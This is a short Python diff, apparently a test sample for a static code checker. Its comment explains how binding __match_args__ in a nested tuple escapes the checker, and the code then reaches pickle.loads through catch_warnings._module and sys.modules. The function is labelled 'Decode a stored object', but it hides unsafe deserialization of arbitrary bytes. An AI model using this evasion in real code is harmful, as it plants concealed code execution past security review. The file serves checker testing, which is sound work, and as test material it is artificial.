@@ -1,0 +1,18 @@
+# family: deser
+# Escape: __match_args__ bound in the class body by a nested tuple form, which the checker's
+# _class_body_names never sees (it only inspects plain `__match_args__ = (...)`/AnnAssign). `case Quiet(m)`
+# then does getattr(subject, "_module") at run time: catch_warnings._module is the warnings module, whose
+# .sys global lead to sys.modules, builtins, frames, hooks (pickle).
+import warnings
+
+
+class Quiet(warnings.catch_warnings):
+    (label, (__match_args__, size)) = ("q", (("_module",), 1))
+
+
+def decode(blob: bytes) -> object:
+    """Decode a stored object."""
+    match Quiet():
+        case Quiet(m):
+            return m.sys.modules["pickle"].loads(blob)
+    return None
